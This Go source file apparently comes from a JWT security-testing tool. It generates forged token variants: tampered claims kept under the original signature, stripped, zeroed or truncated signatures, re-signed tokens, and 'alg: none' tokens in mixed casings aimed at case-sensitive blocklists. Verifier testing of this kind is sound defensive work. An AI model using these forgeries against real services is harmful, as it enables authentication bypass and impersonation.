package jose

import (
	"io"
	"strings"
)

// Variant is one attack token with a stable name for reports.
type Variant struct{ Name, Token string }

// Tampered returns the token with its claims changed by set while the
// original header and signature segments are kept verbatim: accepted only by
// a server that does not verify signatures.
func (t *Token) Tampered(set map[string]any) (string, error) {
	p, err := SetClaims(t.PayloadJSON, set)
	if err != nil {
		return "", err
	}
	return t.Header + "." + B64(p) + "." + t.Signature, nil
}

// RandomSignature returns the token with a signature of random bytes of the
// original length (32 bytes when the original is empty). If r fails, the
// original signature with every bit flipped is used: still the same length,
// still wrong.
func (t *Token) RandomSignature(r io.Reader) string {
	n := len(t.Sig)
	if n == 0 {
		n = 32
	}
	sig := make([]byte, n)
	if _, err := io.ReadFull(r, sig); err != nil || string(sig[:len(t.Sig)]) == string(t.Sig) {
		for i := range sig {
			sig[i] = 0xff
			if i < len(t.Sig) {
				sig[i] = ^t.Sig[i]
			}
		}
	}
	return t.SigningInput() + "." + B64(sig)
}

// Stripped returns the token with its signature removed or replaced by
// nothing-like values: accepted only by a verifier that treats a missing
// signature as nothing to check or compares only what it was given.
func (t *Token) Stripped() []Variant {
	in := t.SigningInput()
	n := len(t.Sig)
	if n == 0 {
		n = 32
	}
	vs := []Variant{
		{Name: "empty-signature", Token: in + "."},
		{Name: "no-signature-segment", Token: in},
		{Name: "zero-signature", Token: in + "." + B64(make([]byte, n))},
		{Name: "one-zero-byte", Token: in + ".AA"},
	}
	if len(t.Sig) >= 2 {
		vs = append(vs, Variant{Name: "truncated-signature", Token: in + "." + B64(t.Sig[:len(t.Sig)/2])})
	}
	return vs
}

// NoneCasings returns the spellings of alg none that AlgNone tries, for
// verifiers that compare against a case-sensitive blocklist.
func NoneCasings() []string { return []string{"none", "None", "NONE", "nOnE"} }

// AlgNone returns the token re-declared as alg none in each casing, claims
// changed by set, once with an empty signature and once with the original
// signature kept. It returns nil when set cannot be encoded as JSON.
func AlgNone(t *Token, set map[string]any) []Variant {
	p, err := SetClaims(t.PayloadJSON, set)
	if err != nil {
		return nil
	}
	var vs []Variant
	for _, c := range NoneCasings() {
		h, err := SetHeader(t.HeaderJSON, map[string]any{"alg": c})
		if err != nil {
			return nil
		}
		base := B64(h) + "." + B64(p) + "."
		vs = append(vs,
			Variant{Name: "alg-" + c + "/empty-signature", Token: base},
			Variant{Name: "alg-" + c + "/original-signature", Token: base + t.Signature})
	}
	return vs
}

// Resign returns the token with claims changed by set, its header alg set to
// s.Alg() and signed by s.
func (t *Token) Resign(set map[string]any, s Signer) (string, error) {
	p, err := SetClaims(t.PayloadJSON, set)
	if err != nil {
		return "", err
	}
	return Sign(t.HeaderJSON, p, s)
}

// isNone reports whether alg spells none in any casing.
func isNone(alg string) bool { return strings.EqualFold(alg, "none") }
